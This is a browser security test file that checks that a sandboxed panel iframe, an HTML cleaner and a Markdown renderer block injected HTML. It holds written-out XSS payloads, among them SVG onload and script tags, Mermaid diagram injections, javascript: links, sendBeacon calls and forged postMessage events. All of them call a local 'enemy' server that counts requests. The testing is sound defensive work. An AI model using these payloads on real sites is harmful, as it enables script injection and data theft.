// Attacks on the page by the HTML of a panel: with the cleaner, without it, with script in the frame, and by a hostile
// frame. A second server is the enemy and counts requests. A control run shows that the attacks work where nothing stops them.
import assert from 'node:assert/strict';
import test, { after, before } from 'node:test';
import { open, until } from './harness.mjs';
import { cases } from './panel-cases.mjs';
import { clickAll, leftIn, scripts, settle } from './panel-scripts.mjs';
import { buildPages, serveEnemy, servePages } from './panel-server.mjs';

let clean;
let unclean;
let enemy;
const closing = [];
before(async () => {
  enemy = await serveEnemy();
  closing.push(enemy.close);
  const serve = async (...options) => {
    const pages = await buildPages(...options);
    const server = await servePages(pages.folder);
    closing.push(server.close, pages.remove);
    return { ...server, folder: pages.folder };
  };
  clean = await serve();
  unclean = await serve('--no-cleaner');
});
after(async () => {
  for (const close of closing) await close();
});

/** A page that notices dialogs, new pages, messages and where it is. */
async function watched(t, url, options) {
  const page = await open(url, { t, width: 600, height: 600, ...options });
  const seen = { dialogs: 0, pages: 0 };
  page.on('dialog', (dialog) => {
    seen.dialogs += 1;
    dialog.dismiss().catch(() => {});
  });
  page.context().on('page', () => (seen.pages += 1));
  await page.evaluate(() => {
    window.messages = 0;
    window.addEventListener('message', () => (window.messages += 1));
  });
  return { page, seen };
}

async function show(page, html) {
  await page.evaluate((it) => window.panelTest.fresh(it), html);
  await page.waitForSelector('.panel-frame[data-shown="true"], .panel-text');
  const element = await page.$('.panel-frame');
  return element ? element.contentFrame() : null;
}

/** Runs one case through the real frame. */
async function attack(it, name, html, origin) {
  const before = enemy.requests.length;
  const frame = await show(it.page, html);
  assert.ok(frame, `${name}: the panel is shown`);
  await clickAll(frame);
  await settle(it.page);
  assert.deepEqual(enemy.requests.slice(before), [], `${name}: nothing reaches the enemy`);
  assert.equal(it.page.url(), `${origin}/panel-test`, `${name}: the page stays where it is`);
  assert.deepEqual(it.seen, { dialogs: 0, pages: 0 }, `${name}: no dialog and no new page`);
  assert.equal(await it.page.evaluate(() => window.messages), 0, `${name}: no message to the window`);
  assert.equal(frame.url(), `${origin}/panel/frame.html`, `${name}: the frame stays where it is`);
  const ours = await frame.evaluate(() => document.title === 'Walkthrough' && document.querySelector('main#panel') !== null);
  assert.ok(ours, `${name}: the frame is still ours`);
  const events = await it.page.evaluate(() => window.panelTest.events);
  assert.ok(!events.some((event) => event.widget === 'forged'), `${name}: no forged event`);
  return frame;
}

test('without protection, most of the attacks reach the enemy', async (t) => {
  const list = cases(enemy.origin);
  const extra = Object.fromEntries(list.map(([, html], i) => [`/control-${i}`, `<!doctype html><body>${html}</body>`]));
  const server = await servePages(clean.folder, { safe: false, extra });
  t.after(server.close);
  const missed = [];
  for (const [i, [name, , direct]] of list.entries()) {
    const page = await open('', { allow: [/./] });
    page.on('dialog', (dialog) => dialog.dismiss().catch(() => {}));
    const before = enemy.requests.length;
    await page.goto(`${server.origin}/control-${i}`, { waitUntil: 'commit' }).catch(() => {});
    const reached = () => enemy.requests.slice(before).some((it) => it.includes(`/${i + 1}`));
    for (let tries = 0; tries < 3 && !reached(); tries++) {
      await settle(page);
      if (!reached()) await clickAll(page);
    }
    if (direct && !reached()) await until(reached, name).catch(() => missed.push(name));
    await page.check();
  }
  assert.deepEqual(missed, [], 'these attacks do not work at all, so they test nothing');
});

test('with the cleaner, nothing gets out of a panel', async (t) => {
  // The cleaner reads the HTML in a document without a window, which has the policy of the frame. So the browser reports
  // what the policy stops there.
  const allow = [/\/panel\/frame\.js[:)]/, /^console: Loading media from  '\S*\/15d'/, /^CSP violation: media-src \S*\/15d/];
  const it = await watched(t, `${clean.origin}/panel-test`, { allow });
  for (const [name, html] of cases(enemy.origin)) {
    const frame = await attack(it, name, html, clean.origin);
    assert.deepEqual(await leftIn(frame), [], `${name}: the HTML is clean`);
  }
});

test('without the cleaner, the policy of the frame lets nothing out', async (t) => {
  const it = await watched(t, `${unclean.origin}/panel-test`, { allow: [/./] });
  for (const [name, html] of cases(enemy.origin)) {
    const before = enemy.requests.length;
    const frame = await show(it.page, html);
    if (name === 'iframe src') assert.equal(await frame.locator('main iframe').count(), 1, 'the HTML is not cleaned');
    if (frame) await clickAll(frame);
    await settle(it.page);
    assert.deepEqual(enemy.requests.slice(before), [], `${name}: nothing reaches the enemy`);
    assert.equal(it.page.url(), `${unclean.origin}/panel-test`, `${name}: the page stays where it is`);
    assert.deepEqual(it.seen, { dialogs: 0, pages: 0 }, `${name}: no dialog and no new page`);
    assert.equal(await it.page.evaluate(() => window.messages), 0, `${name}: no message to the window`);
  }
});

test('script in the frame reaches nothing', async (t) => {
  const it = await watched(t, `${clean.origin}/panel-test`, { allow: [/./] });
  const before = enemy.requests.length;
  const got = {};
  for (const [name, script] of Object.entries(scripts)) {
    const frame = await show(it.page, '<p>Harmless</p>');
    got[name] = await frame.evaluate(`(async () => {
      try { return 'got ' + String(await (${script})(${JSON.stringify(enemy.origin)})); } catch (error) { return error?.name ?? 'blocked'; }
    })()`);
  }
  // These return at once, and nothing comes of it.
  const frame = await show(it.page, '<p>Harmless</p>');
  await frame.evaluate((to) => {
    navigator.sendBeacon(`${to}/s14`, 'x');
    alert(1);
    parent.postMessage({ t: 'event', widget: 'forged', kind: 'click', value: null }, '*');
  }, enemy.origin).catch(() => {});
  await settle(it.page);
  assert.deepEqual(Object.entries(got).filter(([, value]) => value.startsWith('got')), [], JSON.stringify(got, null, 1));
  assert.deepEqual(enemy.requests.slice(before), []);
  assert.deepEqual(it.seen, { dialogs: 0, pages: 0 });
  assert.equal(it.page.url(), `${clean.origin}/panel-test`);
  assert.deepEqual(await it.page.evaluate(() => window.panelTest.events), [], 'a message to the window of the page is no event');
});

for (const [name, move] of Object.entries({
  'to the enemy': (to) => { location = to; },
  'to a document in its address': () => { location = 'data:text/html,<p>Log in again</p>'; },
  'to another page of ours': () => { location = '/panel-test'; },
  'to itself': () => { location.reload(); },
})) {
  test(`a frame that goes ${name} is replaced by the text`, async (t) => {
    const it = await watched(t, `${clean.origin}/panel-test`, { allow: [/./] });
    const before = enemy.requests.length;
    const frame = await show(it.page, '<p>Harmless</p>');
    await frame.evaluate(`(${move})(${JSON.stringify(`${enemy.origin}/go`)})`).catch(() => {});
    await it.page.waitForSelector('.panel-text');
    assert.match(await it.page.textContent('.panel-text'), /was stopped: it tried to open another document.*<p>Harmless<\/p>/s);
    assert.equal(await it.page.locator('iframe.panel-frame').count(), 0);
    assert.deepEqual(enemy.requests.slice(before), []);
    assert.equal(it.page.url(), `${clean.origin}/panel-test`);
  });
}

/** A frame that has the port and breaks the rules. The HTML of the panel names what it does. */
const hostile = `<!doctype html><title>x</title><script>
  const event = (value) => ({ t: 'event', widget: 'w', kind: 'click', value });
  const does = {
    unknown: (port) => port.postMessage({ t: 'eval', code: 'alert(1)' }),
    nothing: (port) => port.postMessage(null),
    text: (port) => port.postMessage('event'),
    long: (port) => port.postMessage(event('x'.repeat(20000))),
    name: (port) => port.postMessage({ ...event(null), widget: 'x'.repeat(300) }),
    kind: (port) => port.postMessage({ ...event(null), kind: 'submit' }),
    value: (port) => port.postMessage(event({ toString: 1 })),
    file: (port) => port.postMessage({ t: 'open', file: 'a\\0b', line: 1 }),
    line: (port) => port.postMessage({ t: 'open', file: 'a', line: -1 }),
    key: (port) => port.postMessage({ t: 'key', key: 'Enter', shift: false }),
    ready: (port) => port.postMessage({ t: 'ready' }),
    future: (port) => port.postMessage({ t: 'shown', seq: 99, height: 1 }),
    twice: (port) => { port.postMessage({ t: 'shown', seq: 1, height: 1 }); port.postMessage({ t: 'shown', seq: 1, height: 1 }); },
    blocks: (port) => port.postMessage({ t: 'blocks', seq: 1, blocks: Array(1000).fill({ language: 'rust', text: 'x' }) }),
    huge: (port) => port.postMessage({ t: 'blocks', seq: 1, blocks: [{ language: 'rust', text: 'x'.repeat(2 << 20) }] }),
    flood: (port) => { for (let i = 0; i < 21; i++) port.postMessage(event(String(i))); },
    link: (port) => { port.postMessage({ t: 'link', href: 'javascript:alert(1)' }); port.postMessage({ t: 'shown', seq: 1, height: 1 }); },
    twenty: (port) => { for (let i = 0; i < 20; i++) port.postMessage(event(String(i))); port.postMessage({ t: 'shown', seq: 1, height: 1 }); },
    silent: () => {},
  };
  addEventListener('message', (init) => {
    const port = init.ports[0];
    port.onmessage = ({ data }) => { if (data.t === 'html') does[data.html](port); };
    port.postMessage({ t: 'ready' });
  });
</script>`;

test('a frame that breaks the rules is stopped', async (t) => {
  const server = await servePages(clean.folder, { extra: { '/panel/frame.html': hostile } });
  t.after(server.close);
  const it = await watched(t, `${server.origin}/panel-test`);
  const stopped = ['unknown', 'nothing', 'text', 'long', 'name', 'kind', 'value', 'file', 'line', 'key', 'ready', 'future', 'twice', 'blocks', 'huge', 'flood'];
  for (const name of stopped) {
    await it.page.evaluate((html) => window.panelTest.fresh(html), name);
    await it.page.waitForSelector('.panel-text');
    assert.match(await it.page.textContent('.panel-text'), /This panel was stopped: it /, name);
    assert.equal(await it.page.locator('iframe.panel-frame').count(), 0, name);
    const events = await it.page.evaluate(() => window.panelTest.events.length);
    assert.equal(events, name === 'flood' ? 20 : 0, name);
  }
  await it.page.evaluate(() => window.panelTest.fresh('twenty'));
  await it.page.waitForSelector('.panel-frame[data-shown="true"]');
  assert.equal(await it.page.evaluate(() => window.panelTest.events.length), 20);
  await it.page.evaluate(() => window.panelTest.fresh('link'));
  await it.page.waitForSelector('.panel-frame[data-shown="true"]');
  assert.deepEqual(await it.page.evaluate(() => window.panelTest.events), [], 'a link that is no web address is ignored');
  await it.page.evaluate(() => window.panelTest.fresh('silent'));
  await it.page.waitForSelector('.panel-text');
  assert.match(await it.page.textContent('.panel-text'), /did not appear in time/);
});

/** A drawer of diagrams that answers with an attack. */
const hostileDrawer = (enemy) => `<!doctype html><title>x</title><script>
  addEventListener('message', (init) => {
    init.ports[0].onmessage = ({ data, target }) => target.postMessage({ id: data.id, width: 100, height: 100,
      svg: '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="fetch(\\'${enemy}/d1\\')"><script>fetch("${enemy}/d2")</scr' + 'ipt><image href="${enemy}/d3"/><style>@import url("${enemy}/d4")</style><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${enemy}/d5"/></foreignObject></svg>' });
    init.ports[0].postMessage({ id: 0 });
  });
</script>`;

test('a deceived drawer of diagrams can only give a picture', async (t) => {
  const server = await servePages(clean.folder, { extra: { '/panel/diagram.html': hostileDrawer(enemy.origin) } });
  t.after(server.close);
  const it = await watched(t, `${server.origin}/panel-test`);
  const before = enemy.requests.length;
  const frame = await show(it.page, '<pre class="c-mermaid"><code>graph TD; A--&gt;B</code></pre>');
  const image = await frame.waitForSelector('.x-diagram img');
  await image.evaluate((element) => element.decode());
  await settle(it.page);
  assert.deepEqual(enemy.requests.slice(before), []);
});

test('hostile texts of diagrams reach nothing', async (t) => {
  const it = await watched(t, `${clean.origin}/panel-test`, { allow: [/./] });
  const before = enemy.requests.length;
  const texts = [
    `graph TD; A["<img src='${enemy.origin}/m1' onerror=fetch('${enemy.origin}/m2')>"]-->B`, `graph TD; A-->B; click A "javascript:fetch('${enemy.origin}/m3')"`,
    `graph TD; A-->B; click A href "${enemy.origin}/m4" _top`, `graph TD; A-->B; style A fill:url(${enemy.origin}/m5)`, `graph TD; A-->B; classDef a background:url(${enemy.origin}/m6); class A a`,
    `sequenceDiagram\n A->>B: <script>fetch('${enemy.origin}/m7')</script>`, `graph TD; A@{ img: "${enemy.origin}/m8", label: "x" }`, `---\ntitle: <img src=${enemy.origin}/m9>\n---\ngraph TD; A-->B`,
  ];
  const html = texts.map((text) => `<pre class="c-mermaid"><code>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</code></pre>`).join('');
  const frame = await show(it.page, html);
  await until(async () => (await frame.locator('.x-diagram img, .x-problem').count()) === texts.length, 'all diagrams');
  await clickAll(frame);
  await settle(it.page);
  assert.deepEqual(enemy.requests.slice(before), []);
  assert.deepEqual(it.seen, { dialogs: 0, pages: 0 });
});

test('the same HTML in Markdown is text', async (t) => {
  const it = await watched(t, `${clean.origin}/panel-test`);
  const before = enemy.requests.length;
  for (const [name, html] of cases(enemy.origin)) {
    for (const growing of [true, false]) {
      await it.page.evaluate(([text, more]) => window.panelTest.markdown(`${text}\n\n- ${text}\n\n${text} end.`, more), [html, growing]);
      await it.page.waitForSelector('.md');
      const found = await it.page.evaluate(() => [...document.querySelectorAll('.md *')].map((element) => element.localName));
      const strange = found.filter((tag) => !['p', 'ul', 'li', 'a', 'span', 'code', 'pre', 'div', 'em', 'strong', 'br', 'button', 'svg', 'path', 'del'].includes(tag));
      assert.deepEqual(strange, [], name);
      assert.ok((await it.page.textContent('.md')).length > html.length / 2, `${name}: the text is readable`);
    }
  }
  await it.page.evaluate((to) => window.panelTest.markdown(`[x](javascript:fetch('${to}/md1')) ![i](${to}/md2) <img src=${to}/md3> [a](data:text/html,x) [r]\n\n[r]: javascript:alert(1)`, false), enemy.origin);
  await it.page.waitForSelector('.md-image-place');
  await clickAll(it.page);
  await settle(it.page);
  assert.deepEqual(await it.page.$$eval('.md a', (all) => all.map((link) => link.href)), []);
  assert.deepEqual(enemy.requests.slice(before), []);
  assert.equal(it.page.url(), `${clean.origin}/panel-test`);
});
